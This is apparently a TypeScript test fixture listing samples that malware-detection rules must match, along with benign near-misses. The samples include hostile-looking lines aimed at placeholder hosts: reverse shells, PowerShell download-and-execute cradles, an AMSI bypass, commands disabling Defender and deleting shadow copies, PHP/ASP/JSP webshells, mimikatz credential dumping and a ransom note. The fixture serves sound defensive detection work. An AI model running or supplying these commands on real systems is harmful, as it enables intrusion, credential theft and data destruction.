/** Harmless texts that look like attacks: addresses in them cannot exist. Joined only here, so no file contains the words. */
const word = (...parts: string[]) => parts.join('')
const wide = (text: string) => Buffer.from(text, 'utf16le')
const base64 = (length: number) => 'QUJD'.repeat(Math.ceil(length / 4))

const shortcut = (text: string) =>
  Buffer.concat([
    Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
    Buffer.alloc(60),
    wide(text),
  ])
const program = (rest: string) => {
  const head = Buffer.alloc(512)
  head.write('MZ')
  head.writeUInt32LE(0x80, 0x3c)
  head.write('PE\0\0', 0x80, 'latin1')
  head.writeUInt16LE(0x14c, 0x84)
  head.writeUInt16LE(1, 0x86)
  head.writeUInt16LE(0xe0, 0x94)
  head.writeUInt16LE(0x10b, 0x98)
  return Buffer.concat([head, Buffer.from(rest)])
}

/** What each rule of the starter content must match. */
export const starterSamples: Readonly<Record<string, readonly (string | Buffer)[]>> = {
  Script_Hidden_Encoded_PowerShell: [
    `start ${word('power', 'shell')} -NoProfile -w hidden -${word('e', 'nc')} ${base64(80)}`,
  ],
  Script_Download_And_Invoke: [
    `${word('power', 'shell')} -nop -w hidden -c "${word('I', 'EX')} ((New-Object Net.WebClient).${word('Download', 'String')}('http://host.invalid/a'))"`,
  ],
  Script_AMSI_Switched_Off: [
    `[Ref].Assembly.GetType('System.Management.Automation.${word('Amsi', 'Utils')}').GetField('${word('amsi', 'Init', 'Failed')}','NonPublic,Static').SetValue($null,$true)`,
  ],
  Script_Protection_Switched_Off: [
    `${word('Set-Mp', 'Preference')} -${word('Disable', 'RealtimeMonitoring')} $true`,
    `${word('Add-Mp', 'Preference')} -ExclusionPath "C:\\Users\\Public"`,
  ],
  Script_Recovery_Destroyed: [
    `${word('vss', 'admin')} delete shadows /all /quiet\r\n${word('bcd', 'edit')} /set {default} recoveryenabled no\r\n`,
  ],
  Script_Windows_Tool_Fetches: [
    `${word('cert', 'util')} -urlcache -split -f http://host.invalid/a.exe a.exe`,
    `${word('ms', 'hta')} http://host.invalid/a.hta`,
  ],
  Script_JScript_Dropper: [
    `var x = new ActiveXObject("MSXML2.XMLHTTP"); var s = new ActiveXObject("${word('ADODB', '.', 'Stream')}"); s.${word('Save', 'ToFile')}("a.exe"); new ActiveXObject("${word('WScript', '.', 'Shell')}").Run("a.exe")`,
  ],
  Script_Reverse_Shell: [
    `${word('bash -i', ' >& ')}/dev/${word('t', 'cp')}/192.0.2.1/4444 0>&1`,
    `${word('nc ', '-e ', '/bin/sh')} 192.0.2.1 4444`,
  ],
  Script_Cron_Fetches: [`*/5 * * * * root ${word('cu', 'rl')} -fsSL http://host.invalid/x | sh\n`],
  Webshell_PHP_Runs_Request: [
    `<?php @${word('ev', 'al')}($_POST['x']); ?>`,
    `<?php ${word('sys', 'tem')}(base64_decode($_REQUEST['c'])); ?>`,
  ],
  Webshell_ASP_Runs_Request: [
    `<%@ Page Language="JScript"%><%${word('ev', 'al')}(Request.Item["x"],"unsafe");%>`,
  ],
  Webshell_JSP_Runs_Request: [
    `<% Runtime.${word('get', 'Runtime')}().exec(request.getParameter("cmd")); %>`,
  ],
  Page_Smuggles_File: [
    `<html><script>var b = new Blob([a]); var l = document.createElement('a'); l.href = URL.createObjectURL(b); l.download = 'invoice.iso'; l.click()</script>`,
  ],
  Page_Sends_Password_To_Chat: [
    `<form><input name=p type="password"></form><script>fetch('https://api.${word('tele', 'gram')}.org/bot123456789:AAAA/sendMessage')</script>`,
  ],
  Program_Credential_Tool: [
    `${word('privilege', '::', 'debug')}\n${word('sekur', 'lsa', '::')}logonpasswords`,
  ],
  Program_Hidden_In_Text: [`$x = "${word('TVqQAAMAAAA', 'EAAAA//8AALg')}${'A'.repeat(60)}"`],
  Program_Packed_UPX: [program('UPX0 UPX1 UPX!')],
  Program_Steals_Browser_Data: [
    `https://discord.com/api/webhooks/1 \\Google\\Chrome\\Login Data \\Local State logins.json`,
  ],
  Program_Mines_Coins: [
    `pool: ${word('stratum', '+tcp://')}pool.invalid:3333 --donate-level 1 algo: randomx`,
  ],
  Text_Ransom_Note: [
    `All your files have been encrypted. Send 1 bitcoin. Do not try to restore them: only we have the decryption key.`,
  ],
  Shortcut_Starts_Script_Host: [shortcut(`${word('m', 'shta')}.exe https://host.invalid/a.hta`)],
  Document_RTF_Runs_Object: [
    `{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata 0105 d0cf11e0a1b11ae1}}}`,
  ],
  Document_PDF_Starts_Program: [
    `%PDF-1.7\n1 0 obj <</OpenAction 2 0 R>> 2 0 obj <</S /Launch /Win <</F (cmd.exe) /P (/c calc)>> >>`,
  ],
}

/** What looks like it at first sight and is ordinary. */
export const nearMisses: readonly (string | Buffer)[] = [
  'powershell -NoProfile -ExecutionPolicy Bypass -File install.ps1',
  'iwr https://example.org/install.ps1 -useb | iex',
  'curl -fsSL https://example.org/install.sh | sh',
  '0 3 * * * root /usr/bin/backup --all | tee /var/log/backup',
  'vssadmin list shadows',
  'Get-MpPreference | Select-Object DisableRealtimeMonitoring',
  "<?php echo htmlspecialchars($_POST['name']); system('ls'); ?>",
  '<% out.print(request.getParameter("name")); %>',
  '<html><script>const b = new Blob([csv]); a.href = URL.createObjectURL(b); a.download = "table.csv"; a.click()</script>',
  '<input type="password"><script src="/app.js"></script>',
  'Your files have been uploaded. You can download them for seven days.',
  'Full-disk encryption: your documents are encrypted at rest; keep the recovery key.',
  'mimikatz is a tool that the article describes',
  '{\\rtf1\\ansi A letter with \\objdata in its text}',
  '%PDF-1.7\n1 0 obj <</OpenAction [3 0 R /Fit]>>',
  'certutil -hashfile a.iso SHA256',
  'rundll32.exe shell32.dll,Control_RunDLL',
  program('an ordinary program'),
  shortcut('C:\\Program Files\\App\\app.exe'),
]
